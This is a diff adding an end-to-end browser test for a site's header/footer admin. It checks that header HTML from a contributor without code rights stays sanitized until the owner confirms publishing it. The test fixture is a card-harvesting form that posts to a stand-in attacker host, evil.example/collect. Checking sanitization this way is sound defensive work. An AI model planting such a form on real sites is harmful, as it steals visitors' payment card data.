@@ -149,6 +149,59 @@ test.describe('header and footer', () => {
   });
 });
 
+test.describe('header HTML a contributor without code rights wrote', () => {
+  test('stays sanitized when the owner saves the footer; the owner is told, and publishes it as written after confirming', async ({
+    browser,
+    demo,
+    page,
+  }) => {
+    const offSite =
+      '<form class="collect" action="https://evil.example/collect" method="post"><input name="card" aria-label="Card"></form><p>Sale</p>';
+    const editorContext = await browser.newContext({ baseURL: demo.url });
+    const editor = await editorContext.newPage();
+    await signInThroughApi(editor, 'editor@example.com');
+    await openAdmin(editor, '/config/header-footer');
+    await editor.getByLabel('Header HTML').fill(offSite);
+    await editor.getByRole('button', { name: 'Save' }).click();
+    await expect(editor.getByRole('status').filter({ hasText: 'Saved.' })).toBeVisible();
+    // The editor is told too, and has no way to publish it.
+    await expect(editor.getByRole('note', { name: 'Header HTML: held sanitized' })).toHaveText(
+      'Written by a contributor without code rights: shown sanitized.',
+    );
+    await expect(editor.getByRole('button', { name: 'Publish as written' })).toHaveCount(0);
+    await editorContext.close();
+
+    await openAdmin(page, '/config/header-footer');
+    const note = page.getByRole('note', { name: 'Header HTML: held sanitized' });
+    await expect(note).toContainText('Written by a contributor without code rights: shown sanitized.');
+    await expect(page.getByRole('note', { name: 'Footer HTML: held sanitized' })).toHaveCount(0);
+    await page.getByLabel('Footer HTML').fill('<p>© Studio</p>');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await expect(page.getByRole('status').filter({ hasText: 'Saved.' })).toBeVisible();
+    await expect(note).toBeVisible();
+    expect(await accessibilityViolations(page)).toEqual([]);
+
+    const guest = await browser.newPage({ baseURL: demo.url });
+    await guest.goto('/shop');
+    await expect(guest.locator('.site-header-html')).toHaveText('Sale');
+    await expect(guest.locator('.site-header-html form')).toHaveCount(0);
+
+    await note.getByRole('button', { name: 'Publish as written' }).click();
+    const dialog = page.getByRole('dialog', { name: 'Publish the header as written?' });
+    await expect(dialog).toBeVisible();
+    await dialog.getByRole('button', { name: 'Publish as written' }).click();
+    await expect(dialog).toHaveCount(0);
+    await expect(page.getByRole('status').filter({ hasText: 'published' })).toHaveText(
+      'Header HTML published as written. Every page shows it on its next load.',
+    );
+    await expect(note).toHaveCount(0);
+
+    await guest.reload();
+    await expect(guest.locator('.site-header-html form.collect')).toHaveAttribute('action', 'https://evil.example/collect');
+    await guest.close();
+  });
+});
+
 test.describe('navigation', () => {
   test('the owner reorders by keyboard, saves, and the header follows', async ({ page }) => {
     await openAdmin(page, '/config/navigation');
